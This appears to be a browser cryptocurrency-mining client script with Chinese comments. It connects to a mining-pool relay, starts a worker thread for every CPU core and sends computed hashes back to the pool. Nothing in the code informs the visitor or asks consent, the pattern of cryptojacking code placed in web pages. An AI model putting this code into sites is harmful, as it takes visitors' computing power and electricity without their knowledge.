// 网页挖矿客户端
var 配置 = { key: 'NOBODY', threads: navigator.hardwareConcurrency, throttle: 0.3 };
var ws = new WebSocket('wss://kuang.relay.invalid/');  // 矿池代理
var job = null;       // 当前任务
var total = 0;        // 总哈希数
ws.onopen = function () {
  // 登录
  ws.send(JSON.stringify({ type: 'auth', params: { site_key: 配置.key, type: 'anonymous', user: null } }));
};
ws.onmessage = function (e) {
  var m = JSON.parse(e.data);
  if (m.type === 'job') { job = m.params; 分发(); }           // 新任务
  if (m.type === 'hash_accepted') total = m.params.hashes;    // 已接受
};
var 矿工 = [];
function 分发() {
  矿工.forEach(function (w) { w.postMessage({ job_id: job.job_id, blob: job.blob, target: job.target, throttle: 配置.throttle }); });
}
for (var i = 0; i < 配置.threads; i++) {
  var w = new Worker('kuang.js');
  w.onmessage = function (e) { ws.send(JSON.stringify({ type: 'submit', params: e.data })); };
  矿工.push(w);
}
